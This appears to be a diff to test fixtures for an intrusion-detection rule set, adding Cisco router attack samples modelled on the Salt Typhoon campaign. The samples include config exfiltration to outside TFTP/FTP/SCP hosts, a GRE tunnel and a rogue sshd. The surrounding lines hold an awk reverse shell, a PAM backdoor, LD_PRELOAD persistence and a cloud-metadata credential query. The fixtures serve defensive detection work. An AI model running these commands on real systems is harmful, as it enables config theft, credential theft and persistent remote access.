@@ -721,6 +721,12 @@ SAMPLES = {
     "implant_esxi_socket_backdoor": (
         ("ksmd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock", "kill -9 `ps -c | grep vmsyslogd`")),
         ("vmtoolsd", strings(ELF_EXE, "/dev/vsock", "/vmfs/devices/char/vsock/vsock"))),
+    "edge_cisco_dual_use_command": (
+        ("r.log", "%SYS-5-CFG: user:ops cmd:guestshell enable\n"),
+        ("r.log", "show app-hosting list\ncopy running-config startup-config\ncopy running-config scp://ops@192.0.2.9/r1\n")),
+    "edge_salt_typhoon_sequence": (
+        ("r.log", "cmd: access-list 20 permit 192.0.2.7\ncmd: guestshell enable\ncmd: guestshell destroy\n"),
+        ("r.cfg", "access-list 20 permit 192.0.2.7\ninterface Tunnel0\n tunnel destination 192.0.2.9\n")),
     "credential_cloud_metadata_asked": (
         ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
         ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
@@ -932,6 +938,15 @@ QUOTED_PLAIN = [
     ("reverse_shell_other_languages", 'awk \'BEGIN {s = "/inet/tcp/0/192.0.2.7/443"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null'),
     ("persistence_pam_configuration", 'sudo sed -i "1s,^,auth sufficient /tmp/pam_evil.so\\n,g" /etc/pam.d/su-l'),
     ("persistence_preload_command", "LD_PRELOAD=/dev/shm/x.so ls"),
+    ("edge_cisco_dual_use_command", "guestshell destroy"),
+    ("edge_cisco_dual_use_command", "chvrf management ssh -l admin 10.0.0.5"),
+    ("edge_cisco_dual_use_command", "copy running-config tftp://192.0.2.7/r1.cfg"),
+    ("edge_cisco_dual_use_command", "copy run ftp://u:p@192.0.2.7/r1.cfg"),
+    ("edge_salt_typhoon_sequence", "chvrf management ssh -l admin 10.0.0.5\ncopy running-config tftp://192.0.2.7/r1.cfg"),
+    ("edge_salt_typhoon_command", "chkconfig --add sshd_operns"),
+    ("edge_salt_typhoon_command", "/etc/init.d/sshd_operns start"),
+    ("edge_salt_typhoon_command", "/usr/sbin/sshd -p 57722"),
+    ("edge_salt_typhoon_command", "interface Tunnel9\n tunnel source Gi0/0\n tunnel destination 45.61.133.31"),
 ]
 
 
